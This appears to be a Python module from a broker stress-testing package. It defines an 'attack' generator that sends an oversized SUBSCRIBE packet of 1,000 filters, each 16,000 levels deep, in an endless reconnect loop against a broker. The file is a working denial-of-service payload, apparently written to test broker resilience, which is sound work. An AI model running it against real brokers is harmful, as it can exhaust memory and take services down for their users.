# SPDX-License-Identifier: Apache-2.0
from collections.abc import Generator

from poolmark.attack import packets
from poolmark.attack.broker import Broker

FILTERS, LEVELS = 1000, 16_000


def many_levels(broker: Broker) -> Generator[None, None, None]:
    """one SUBSCRIBE of 1 000 filters with 16 000 levels each (16 MB)"""
    request = packets.subscribe([f"{number}" + "/" * (LEVELS - 1) for number in range(FILTERS)])
    yield
    while True:
        with broker.connect() as client:
            if client.send(request):
                client.suback(5.0)
        yield
